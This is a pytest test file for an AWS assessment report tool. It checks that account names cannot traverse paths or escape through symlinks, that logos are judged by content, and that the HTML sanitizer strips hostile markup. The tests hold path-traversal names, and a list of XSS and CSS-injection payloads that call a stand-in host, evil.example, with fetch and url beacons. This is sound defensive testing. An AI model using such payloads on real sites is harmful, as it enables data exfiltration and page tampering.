"""Untrusted data stays data: names read back from run.json, reserved account names, the logo's type."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from awsassess.params import ParamsError, account_folder, load_params_file


def _cli(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "awsassess.cli", *args], capture_output=True, text=True, cwd=cwd,
                          timeout=180)


def test_a_traversing_account_name_in_run_json_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    victim = tmp_path / "victim" / "acme-prod"
    victim.mkdir(parents=True)
    (victim / "report.html").write_text("the real report")
    run_dir = tmp_path / "run"
    (run_dir / "good" / "notebooks").mkdir(parents=True)
    (run_dir / "run.json").write_text(json.dumps({"accounts": [{"name": "good"}, {"name": "../victim/acme-prod"}]}))
    r = _cli(tmp_path, "report", str(run_dir))
    assert r.returncode == 2 and "account name" in r.stderr and "Traceback" not in r.stderr
    assert (victim / "report.html").read_text() == "the real report"
    assert not (run_dir / "portfolio.html").exists()


@pytest.mark.parametrize("name", ["../x", "a/b", "/etc", "..", "logs", "params", "UPPER", ""])
def test_names_from_a_file_are_validated_like_params_names(name: str, tmp_path: Path) -> None:
    with pytest.raises(ValueError):
        account_folder(tmp_path, name)


def test_an_account_folder_that_is_a_link_out_of_the_run_is_refused(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    (run_dir / "acme").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    with pytest.raises(ValueError, match="outside the run folder"):
        account_folder(run_dir, "acme")


@pytest.mark.parametrize("name", ["logs", "params"])
def test_reserved_account_names_are_bad_input(name: str, tmp_path: Path) -> None:
    path = tmp_path / "p.yaml"
    path.write_text(f'name: {name}\naccount_id: "123456789012"\nregions: [us-east-1]\n')
    with pytest.raises(ParamsError, match="folder every run keeps"):
        load_params_file(path)


def _params(tmp_path: Path, extra: str) -> Path:
    path = tmp_path / "p.yaml"
    path.write_text(f'name: acme\naccount_id: "123456789012"\nregions: [us-east-1]\n{extra}')
    return path


def test_the_logo_is_judged_by_its_content_not_its_name(tmp_path: Path) -> None:
    secret = tmp_path / "id_rsa"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (tmp_path / "logo.png").symlink_to(secret)
    with pytest.raises(ParamsError, match="not a PNG"):
        load_params_file(_params(tmp_path, "report:\n  logo: logo.png\n"))
    (tmp_path / "notes.svg").write_text("hello")
    with pytest.raises(ParamsError, match="not a PNG"):
        load_params_file(_params(tmp_path, "report:\n  logo: notes.svg\n"))
    (tmp_path / "real.svg").write_text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>')
    assert load_params_file(_params(tmp_path, "report:\n  logo: real.svg\n")).report.logo == tmp_path / "real.svg"


def test_a_missing_github_repo_is_bad_input_before_any_work(tmp_path: Path) -> None:
    with pytest.raises(ParamsError, match="github_repo"):
        load_params_file(_params(tmp_path, "github_repo: no-such-checkout\n"))
    (tmp_path / "repo").mkdir()
    assert load_params_file(_params(tmp_path, "github_repo: repo\n")).github_repo == tmp_path / "repo"


NAME_TAG_ATTACKS = [
    '<style>@import url("https://evil.example/x.css");</style>',
    "<style>.kpi,.saving{display:none}</style>",
    "<style>#T_a td{background:url(https://evil.example/p.gif)}</style>",
    '<img src=x onerror="fetch(\'https://evil.example\')">',
    "<script>fetch('https://evil.example')</script>",
    '<a href="javascript:alert(1)">x</a>',
]


@pytest.mark.parametrize("attack", NAME_TAG_ATTACKS)
def test_the_report_sanitizer_lets_no_style_script_handler_or_url_through(attack: str) -> None:
    from awsassess.report.sanitize import clean_html

    out = clean_html(f"<p>VPC {attack}</p>")
    lowered = out.lower()
    assert "<style" not in lowered and "<script" not in lowered and "onerror=" not in lowered.replace(" ", "")
    assert 'href="javascript:' not in lowered
    assert "evil.example" not in lowered or "&lt;" in lowered  # shown as text at most, never markup


def test_styler_css_survives_and_bidi_controls_are_removed() -> None:
    import pandas as pd
    from awsassess.report.sanitize import clean_html

    html = pd.DataFrame({"a": [1.5]}).style.set_properties(**{"text-align": "right"}).to_html()
    out = clean_html(html)
    assert "<style" in out and "text-align: right" in out
    assert clean_html("invoice\u202egnp.exe\u2066x\u2069") == "invoicegnp.exex"


def test_break_opportunities_in_long_names_survive_the_sanitizer_as_markup_not_text() -> None:
    from awsassess import escaping
    from awsassess.report.sanitize import clean_html

    arn = "arn:aws:ecs:us-east-1:123456789012:service/fintech-production/notifications"
    out = clean_html(f"<table><tr><td>{escaping.text(arn)}</td></tr></table>")
    assert "<wbr" in out and "&lt;wbr" not in out
    assert re.sub(r"<wbr\s*/?>", "", out).count(arn) == 1
